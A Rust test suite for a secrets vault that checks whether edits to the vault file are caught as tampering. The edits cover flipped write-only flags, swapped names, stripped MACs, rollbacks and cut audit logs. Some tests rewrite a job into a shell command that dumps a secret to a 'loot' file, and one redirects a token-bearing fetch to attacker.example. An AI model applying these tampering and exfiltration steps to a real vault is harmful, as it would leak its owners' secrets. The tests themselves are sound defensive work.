//! Row integrity: an attacker who can write the vault file changes the clear
//! columns that decide a rule (write-only, names, organizations, projects,
//! status, expiry, the current version, a job's spec and bindings) or strips
//! the tags, and each such change is `tampered` where the rule is enforced:
//! nothing is revealed, used or run. Run logs are sealed like values.

use coffer_core::job::{
    CommandSpec, HttpFetchSpec, JobRef, JobSpec, NewJob, RoleBinding, RunOutcome, RunStatus,
    RunTrigger, SecretReference, SecretRole,
};
use coffer_core::secret::{NewSecret, SecretRef, ValueChange};
use coffer_core::{Error, ErrorCode, Vault};
use serde_json::json;

use crate::support::{Fixture, basic, contains, expect_code, inputs, named, raw, reveal_all};

fn tamper(fx: &Fixture, sql: &str) {
    raw(&fx.path)
        .execute_batch(sql)
        .expect("edit the vault file");
}

/// The error is `tampered` and names what was changed.
fn expect_tampered<T: std::fmt::Debug>(result: coffer_core::Result<T>, names: &str) -> Error {
    let e = expect_code(result, ErrorCode::Tampered);
    assert!(e.to_string().contains(names), "{e} should name {names}");
    e
}

fn use_it(vault: &mut Vault, secret: &SecretRef, project: Option<&str>) -> coffer_core::Result<()> {
    vault.use_secret(secret, project, "test", None).map(drop)
}

fn write_only(name: &str) -> NewSecret {
    let mut new = basic(name, "svc", "wo-value-never-shown");
    new.write_only = true;
    new
}

fn command_job(name: &str, args: &[&str]) -> NewJob {
    NewJob::new(
        name,
        JobSpec::Command(CommandSpec {
            program: "/bin/echo".into(),
            args: args.iter().map(|a| a.to_string()).collect(),
            env: Default::default(),
            working_dir: None,
            timeout_seconds: None,
        }),
    )
}

fn finished(log: &str) -> RunOutcome {
    RunOutcome {
        status: RunStatus::Succeeded,
        log: log.into(),
        error: None,
        result: json!({}),
        state: None,
        references: None,
    }
}

#[test]
fn switching_write_only_off_in_the_file_reveals_nothing() {
    let mut fx = Fixture::new();
    fx.register(write_only("wo")).unwrap();
    expect_code(fx.reveal(&named("wo"), None, None), ErrorCode::WriteOnly);
    tamper(&fx, "UPDATE secrets SET write_only = 0 WHERE name = 'wo'");
    expect_tampered(fx.reveal(&named("wo"), None, None), "secret Default:wo");
    expect_tampered(use_it(&mut fx, &named("wo"), None), "secret Default:wo");
    // Listing still shows the clear columns; the detail names the change.
    assert_eq!(fx.list(&Default::default()).unwrap().total, 1);
    expect_tampered(fx.get(&named("wo")), "Default:wo");
}

#[test]
fn swapped_names_organizations_and_projects_are_tampering() {
    let mut fx = Fixture::new();
    fx.register(basic("alpha", "a", "alpha-pw")).unwrap();
    fx.register(basic("beta", "b", "beta-pw")).unwrap();
    tamper(
        &fx,
        "UPDATE secrets SET name = 'tmp' WHERE name = 'alpha';
         UPDATE secrets SET name = 'alpha' WHERE name = 'beta';
         UPDATE secrets SET name = 'beta' WHERE name = 'tmp';",
    );
    expect_tampered(
        use_it(&mut fx, &named("alpha"), None),
        "secret Default:alpha",
    );
    expect_tampered(fx.reveal(&named("beta"), None, None), "secret Default:beta");

    // The same secret name in two organizations, whose names are swapped.
    for org in ["prod", "dev"] {
        let mut new = basic("db", "u", &format!("{org}-pw"));
        new.org = Some(org.into());
        fx.register(new).unwrap();
    }
    tamper(
        &fx,
        "UPDATE organizations SET name = 'tmp' WHERE name = 'prod';
         UPDATE organizations SET name = 'prod' WHERE name = 'dev';
         UPDATE organizations SET name = 'dev' WHERE name = 'tmp';",
    );
    expect_tampered(
        use_it(&mut fx, &SecretRef::in_org("prod", "db"), None),
        "the organization prod",
    );

    // A project's name is part of the rule "only this project's jobs".
    let mut new = basic("scoped", "u", "scoped-pw");
    new.project = Some("billing".into());
    fx.register(new).unwrap();
    use_it(&mut fx, &named("scoped"), Some("billing")).unwrap();
    tamper(
        &fx,
        "UPDATE projects SET name = 'payroll' WHERE name = 'billing'",
    );
    expect_tampered(
        use_it(&mut fx, &named("scoped"), Some("payroll")),
        "the project \"payroll\"",
    );
}

#[test]
fn status_project_expiry_and_current_version_cannot_be_edited() {
    let mut fx = Fixture::new();
    let mut new = basic("scoped", "u", "pw");
    new.project = Some("billing".into());
    fx.register(new).unwrap();
    fx.register(basic("off", "u", "pw")).unwrap();
    fx.deactivate(&named("off")).unwrap();
    fx.register(basic("rolled", "u", "v1")).unwrap();
    for value in ["v2", "v3"] {
        let change = ValueChange {
            set: inputs(&[("password", value)]),
            ..Default::default()
        };
        fx.update_value(&named("rolled"), change, None).unwrap();
    }
    let mut expiring = basic("expiring", "u", "pw");
    expiring.expires_at = Some(fx.now().plus_days(1));
    fx.register(expiring).unwrap();

    tamper(
        &fx,
        "UPDATE secrets SET project_id = NULL WHERE name = 'scoped';
         UPDATE secrets SET lifecycle = 'active' WHERE name = 'off';
         UPDATE secrets SET current_version = 1 WHERE name = 'rolled';
         UPDATE secrets SET expires_at = expires_at + 86400 * 365 WHERE name = 'expiring';",
    );
    expect_tampered(use_it(&mut fx, &named("scoped"), None), "Default:scoped");
    expect_tampered(use_it(&mut fx, &named("off"), None), "Default:off");
    expect_tampered(fx.reveal(&named("rolled"), None, None), "Default:rolled");
    expect_tampered(
        use_it(&mut fx, &named("expiring"), None),
        "Default:expiring",
    );
    // Nor can a tampered row be laundered by a legitimate change.
    expect_tampered(fx.activate(&named("off")), "Default:off");
}

#[test]
fn stripped_tags_and_a_removed_integrity_record_are_tampering() {
    let mut fx = Fixture::new();
    fx.register(basic("svc", "u", "pw")).unwrap();
    tamper(&fx, "UPDATE secrets SET mac = NULL WHERE name = 'svc'");
    expect_tampered(fx.reveal(&named("svc"), None, None), "Default:svc");
    tamper(&fx, "DELETE FROM meta WHERE key = 'rows_sealed'");
    fx.open_locked();
    let e = expect_tampered(
        fx.unlock_with_passphrase(&crate::support::passphrase()),
        "integrity record",
    );
    assert!(e.to_string().contains("removed"), "{e}");
    assert!(!fx.is_unlocked());
}

#[test]
fn edited_jobs_run_nothing() {
    let mut fx = Fixture::new();
    fx.register(write_only("wo")).unwrap();
    fx.register(basic("api", "svc", "token-value")).unwrap();
    let mut job = command_job("harmless", &["hello"]);
    job.references = Vec::new();
    fx.create_job(job).unwrap();
    let mut fetch = NewJob::new(
        "fetch",
        JobSpec::HttpFetch(HttpFetchSpec {
            url: "https://artifacts.example.com/a".into(),
            target: "/tmp/coffer-integrity-target".into(),
        }),
    );
    fetch.roles = vec![RoleBinding {
        role: SecretRole::Auth,
        secret: "api".into(),
    }];
    fx.create_job(fetch).unwrap();
    let harmless = JobRef::Name {
        org: "Default".into(),
        name: "harmless".into(),
    };
    let fetch = JobRef::Name {
        org: "Default".into(),
        name: "fetch".into(),
    };

    // The command becomes `sh -c 'printf %s "$1" > loot' _ ${secret:wo}`.
    tamper(
        &fx,
        r#"UPDATE jobs SET spec = json_set(spec, '$.program', '/bin/sh',
               '$.args', json_array('-c', 'printf %s "$1" > loot', '_', '${secret:wo}'))
           WHERE name = 'harmless';
           INSERT INTO job_secrets (job_id, role, manager, secret_name, field)
               SELECT id, 'placeholder', '', 'wo', '' FROM jobs WHERE name = 'harmless';"#,
    );
    expect_tampered(
        fx.start_run(&harmless, RunTrigger::Manual),
        "job Default:harmless",
    );
    expect_tampered(fx.job(&harmless), "job Default:harmless");
    // The bearer token would go to another host.
    tamper(
        &fx,
        "UPDATE jobs SET spec = json_set(spec, '$.url', 'https://attacker.example/x')
         WHERE name = 'fetch'",
    );
    expect_tampered(
        fx.start_run(&fetch, RunTrigger::Missed),
        "job Default:fetch",
    );
    // No run was recorded, and a person can still delete the edited jobs.
    let runs: i64 = raw(&fx.path)
        .query_row("SELECT count(*) FROM job_runs", [], |r| r.get(0))
        .unwrap();
    assert_eq!(runs, 0);
    fx.delete_job(&harmless).unwrap();

    // A binding added behind the job's back is tampering too.
    let mut job = command_job("bound", &["${secret:api}"]);
    job.references = vec![SecretReference {
        manager: None,
        secret: "api".into(),
        field: None,
    }];
    fx.create_job(job).unwrap();
    let bound = JobRef::Name {
        org: "Default".into(),
        name: "bound".into(),
    };
    fx.start_run(&bound, RunTrigger::Manual)
        .map(|s| s.run)
        .and_then(|run| fx.finish_run(run, finished("ok")))
        .unwrap();
    tamper(
        &fx,
        "INSERT INTO job_secrets (job_id, role, manager, secret_name, field)
         SELECT id, 'placeholder', '', 'wo', '' FROM jobs WHERE name = 'bound'",
    );
    expect_tampered(
        fx.start_run(&bound, RunTrigger::Schedule),
        "job Default:bound",
    );
}

#[test]
fn run_logs_are_sealed_and_shown_only_when_unlocked() {
    let mut fx = Fixture::new();
    let mut job = command_job("noisy", &["hello"]);
    job.references = Vec::new();
    fx.create_job(job).unwrap();
    let noisy = JobRef::Name {
        org: "Default".into(),
        name: "noisy".into(),
    };
    let canary = "LOG-CANARY-4f1c9a";
    let run = fx.start_run(&noisy, RunTrigger::Manual).unwrap().run;
    // A run outlives a lock and still records its end.
    fx.lock();
    let mut outcome = finished(&format!("printed {canary}"));
    outcome.error = Some(format!("error with {canary}"));
    let recorded = fx.finish_run(run, outcome).unwrap();
    assert!(recorded.log.contains(canary));
    expect_code(fx.job_runs(&noisy, 10), ErrorCode::Locked);
    expect_code(fx.job_run(run), ErrorCode::Locked);
    fx.close();
    let mut file = std::fs::read(&fx.path).unwrap();
    file.extend(std::fs::read(fx.path.with_extension("db-wal")).unwrap_or_default());
    assert!(
        !contains(&file, canary.as_bytes()),
        "a run log is in clear on disk"
    );

    fx.reopen();
    let runs = fx.job_runs(&noisy, 10).unwrap();
    assert!(runs[0].log.contains(canary));
    assert!(runs[0].error.as_deref().unwrap().contains(canary));

    // A sealed log moved to another run does not open.
    let run2 = fx.start_run(&noisy, RunTrigger::Manual).unwrap().run;
    fx.finish_run(run2, finished("second")).unwrap();
    tamper(
        &fx,
        &format!(
            "UPDATE job_runs SET sealed = (SELECT sealed FROM job_runs WHERE id = {run}) WHERE id = {run2}"
        ),
    );
    expect_tampered(fx.job_run(run2), &format!("run {run2}"));
}

#[test]
fn an_upgraded_vault_is_sealed_at_its_first_unlock() {
    let mut fx = Fixture::new();
    fx.register(write_only("wo")).unwrap();
    let mut job = command_job("old", &["hello"]);
    job.references = Vec::new();
    fx.create_job(job).unwrap();
    let old = JobRef::Name {
        org: "Default".into(),
        name: "old".into(),
    };
    let run = fx.start_run(&old, RunTrigger::Manual).unwrap().run;
    fx.finish_run(run, finished("recorded")).unwrap();
    fx.close();
    // What a schema-5 vault looks like: no tags, no record, clear logs, and a
    // creation entry that says nothing of sealed rows.
    tamper(
        &fx,
        r#"DELETE FROM meta WHERE key = 'rows_sealed';
           UPDATE job_runs SET log = 'OLD-CLEAR-LOG', error = NULL;
           ALTER TABLE secrets DROP COLUMN mac;
           ALTER TABLE jobs DROP COLUMN mac;
           ALTER TABLE organizations DROP COLUMN mac;
           ALTER TABLE projects DROP COLUMN mac;
           ALTER TABLE job_runs DROP COLUMN sealed;
           ALTER TABLE job_runs DROP COLUMN pid;
           ALTER TABLE job_runs DROP COLUMN pid_started;
           ALTER TABLE job_runs DROP COLUMN number;
           ALTER TABLE job_runs DROP COLUMN duration_ms;
           DROP TRIGGER audit_log_no_update;
           UPDATE audit_log SET detail = json_remove(detail, '$.sealed_rows') WHERE seq = 1;
           DROP TABLE deployment_versions; DROP TABLE deployments; DROP TABLE managers;
             DROP TABLE team_identities; DROP TABLE team_replica; DROP TABLE team_replica_state;
             DROP TABLE team_queue;
             PRAGMA user_version = 5;"#,
    );
    fx.reopen();
    assert_eq!(fx.status().unwrap().schema_version, 13);
    let sealed = fx
        .audit_entries(None, 20)
        .unwrap()
        .into_iter()
        .find(|e| e.action == "vault.seal_rows")
        .expect("the first unlock after the upgrade is audited");
    assert_eq!(sealed.detail["run_logs"], 1);
    assert_eq!(fx.job_runs(&old, 10).unwrap()[0].log, "OLD-CLEAR-LOG");
    // From now on the rules hold.
    tamper(&fx, "UPDATE secrets SET write_only = 0 WHERE name = 'wo'");
    expect_tampered(fx.reveal(&named("wo"), None, None), "Default:wo");
    let clear: i64 = raw(&fx.path)
        .query_row("SELECT count(*) FROM job_runs WHERE log <> ''", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(clear, 0, "old run logs are sealed");
}

#[test]
fn rotation_reseals_rows_logs_and_starts_an_audit_epoch() {
    let mut fx = Fixture::new();
    fx.register(basic("svc", "u", "pw")).unwrap();
    let mut job = command_job("j", &["x"]);
    job.references = Vec::new();
    fx.create_job(job).unwrap();
    let j = JobRef::Name {
        org: "Default".into(),
        name: "j".into(),
    };
    let run = fx.start_run(&j, RunTrigger::Manual).unwrap().run;
    fx.finish_run(run, finished("before rotation")).unwrap();
    fx.rotate_master_key(&crate::support::passphrase()).unwrap();
    let verified = fx.verify_audit().unwrap();
    assert!(verified.ok, "{verified:?}");
    fx.register(basic("after", "u", "pw2")).unwrap();
    fx.reopen();
    assert!(fx.verify_audit().unwrap().ok);
    assert_eq!(reveal_all(&mut fx, &named("svc"))["password"], b"pw");
    assert_eq!(fx.job_runs(&j, 10).unwrap()[0].log, "before rotation");
    fx.start_run(&j, RunTrigger::Manual).unwrap();
    // The epochs chain: an entry of the old epoch changed shows.
    tamper(
        &fx,
        "DROP TRIGGER audit_log_no_update;
         UPDATE audit_log SET actor = 'mallory' WHERE seq = 2;",
    );
    let broken = fx.verify_audit().unwrap();
    assert!(!broken.ok);
    assert_eq!(broken.first_broken, Some(2));
    // A rotation refuses to re-tag rows that were changed outside Coffer.
    tamper(
        &fx,
        "UPDATE secrets SET owner = 'mallory' WHERE name = 'svc'",
    );
    expect_tampered(
        fx.rotate_master_key(&crate::support::passphrase()),
        "Default:svc",
    );
}

#[test]
fn a_rolled_back_or_cut_file_is_caught_at_unlock() {
    use crate::support::{in_keyring_session, passphrase, run_in_keyring_session, test_name};
    use coffer_core::{KeyringState, KeyringUnlock};
    if !in_keyring_session() {
        return run_in_keyring_session(&test_name(
            module_path!(),
            "a_rolled_back_or_cut_file_is_caught_at_unlock",
        ));
    }
    let (mut fx, state) = Fixture::create(true);
    assert_eq!(state, KeyringState::Stored);
    fx.register(basic("svc", "u", "v1")).unwrap();
    fx.close();
    let older = fx.path.with_extension("older");
    std::fs::copy(&fx.path, &older).unwrap();
    let reopen = |fx: &mut Fixture| {
        fx.open_locked();
        assert_eq!(fx.unlock_with_keyring().unwrap(), KeyringUnlock::Unlocked);
    };
    reopen(&mut fx);
    let change = ValueChange {
        set: inputs(&[("password", "v2")]),
        ..Default::default()
    };
    fx.update_value(&named("svc"), change, None).unwrap();
    fx.close();

    // The whole file replaced by an older copy (v1 again).
    std::fs::copy(&older, &fx.path).unwrap();
    fx.open_locked();
    expect_tampered(fx.unlock_with_keyring(), "rolled back");
    expect_tampered(fx.unlock_with_passphrase(&passphrase()), "rolled back");
    assert!(!fx.is_unlocked());
    // A deliberate restore is accepted with the recovery passphrase, audited.
    fx.accept_restore(&passphrase()).unwrap();
    assert_eq!(reveal_all(&mut fx, &named("svc"))["password"], b"v1");
    assert!(
        fx.audit_entries(None, 5)
            .unwrap()
            .iter()
            .any(|e| e.action == "vault.restore_accepted")
    );
    fx.close();
    reopen(&mut fx);

    // A cut at the tail with an older head copied back verifies by itself,
    // and is caught at unlock.
    let head: Vec<u8> = raw(&fx.path)
        .query_row("SELECT value FROM meta WHERE key = 'audit_head'", [], |r| {
            r.get(0)
        })
        .unwrap();
    let seq: i64 = raw(&fx.path)
        .query_row("SELECT max(seq) FROM audit_log", [], |r| r.get(0))
        .unwrap();
    fx.reveal(&named("svc"), None, None).unwrap();
    fx.close();
    let db = raw(&fx.path);
    db.execute_batch("DROP TRIGGER audit_log_no_delete")
        .unwrap();
    db.execute("DELETE FROM audit_log WHERE seq > ?1", [seq])
        .unwrap();
    db.execute(
        "UPDATE meta SET value = ?1 WHERE key = 'audit_head'",
        [&head],
    )
    .unwrap();
    drop(db);
    fx.open_locked();
    expect_tampered(fx.unlock_with_keyring(), "rolled back");
}
